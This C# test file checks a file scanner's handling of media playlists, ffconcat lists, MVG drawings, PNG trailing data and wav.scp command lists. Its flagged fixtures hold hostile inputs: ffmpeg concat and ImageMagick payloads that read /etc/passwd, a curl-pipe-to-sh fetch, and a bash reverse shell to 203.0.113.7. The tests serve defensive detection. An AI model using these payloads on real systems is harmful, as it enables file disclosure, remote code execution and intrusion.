// Lists of media and drawings: ordinary ones pass, those that read other files under the name of a medium do not; and what stands behind a picture.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Media;

public sealed class MediaScriptTests
{
    private static readonly byte[] s_picture = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    private static TargetReport Of(string name, string text) => Scans.Of(Encoding.UTF8.GetBytes(text), name);

    [Theory]
    [InlineData("list.m3u8", "#EXTM3U\n#EXTINF:10.0,\nseg0.ts\n#EXTINF:10.0,\nhttps://cdn.example.org/seg1.ts\n#EXT-X-ENDLIST\n")]
    [InlineData("list.m3u", "#EXTM3U\n#EXTINF:123,Artist - Title\n/home/user/music/a.mp3\n")]
    [InlineData("parts.txt", "ffconcat version 1.0\nfile part0.mp4\nfile part1.mp4\n")]
    [InlineData("clip.mp4", "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n")]
    public void OrdinaryListsPass(string name, string text)
    {
        TargetReport target = Of(name, text);
        Assert.True(target.Findings.Count == 0, target.Describe());
    }

    [Theory]
    [InlineData("clip.mp4", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://203.0.113.7/h.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST\n")]
    [InlineData("a.wav", "ffconcat version 1.0\nfile /etc/passwd\n")]
    [InlineData("a.avi", "#EXTM3U\n#EXTINF:10,\nsubfile,,start,0,end,9,,:/etc/passwd\n")]
    [InlineData("b.webm", "#EXTM3U\n#EXTINF:10,\nhttp://203.0.113.7/track\n")]
    [InlineData("c.png", "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context\n")]
    [InlineData("list.m3u8", "#EXTM3U\n#EXTINF:10,\nconcat:http://203.0.113.7/h.m3u8|file:///etc/passwd\n")]
    public void ListsThatReadOtherFilesAreFlagged(string name, string text) => Assert.True(Of(name, text).Is("media-list-splices"));

    [Fact]
    public void WhatStandsBehindAPictureAndIsNothingIsSaidAndNoMore()
    {
        TargetReport target = Scans.Of([.. s_picture, .. Enumerable.Range(0, 300).Select(i => (byte)(i * 7919 >> 3)), .. new byte[1500]], "a.png");
        Assert.True(target.Verdict is Verdict.Passed && target.Anomalies().Contains("media.trailing-data"), target.Describe());
    }

    [Fact]
    public void WhatStandsBehindAPictureIsJudgedAsWhatItIs()
    {
        Assert.Equal(Verdict.Malicious, Scans.Of([.. s_picture, .. Scans.Canary], "a.png").Verdict);
        Assert.Equal(Verdict.Malicious, Scans.Of([.. s_picture, .. new ZipBuilder().Add("data.pkl", Scans.Canary).Build()], "a.png").Verdict);
    }

    [Theory]
    [InlineData("wav.scp", "utt0 sox data/0.wav -t wav - rate 16000 |\nutt1 sph2pipe -f wav -p -c 1 /data/1.sph | sox - -r 8k -t wav - |\nutt2 wget -q -O - http://data.example.org/2.flac | flac -d -c -s - |\n", false)]
    [InlineData("wav.scp", "utt0 data/0.wav\nutt1 curl -s http://203.0.113.7/p | sh; cat data/1.wav |\n", true)]
    [InlineData("feats_rxfilename", "utt0 bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' |\n", true)]
    [InlineData("notes.txt", "| step | command |\n| 1 | curl http://x.example.org/install.sh | sh |\n", false)]
    public void CommandsOfListsOfSoundsAreRead(string name, string text, bool isFlagged) => Assert.Equal(isFlagged, Of(name, text).Verdict >= Verdict.Suspicious);
}
